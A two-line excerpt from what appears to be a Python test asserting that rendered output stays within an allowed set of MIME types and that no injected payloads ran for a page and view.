    assert mimes <= {"text/plain", "text/html", "text/latex", "image/png", "image/jpeg"}
    assert payloads_that_ran([page, view], tmp_path) == set()

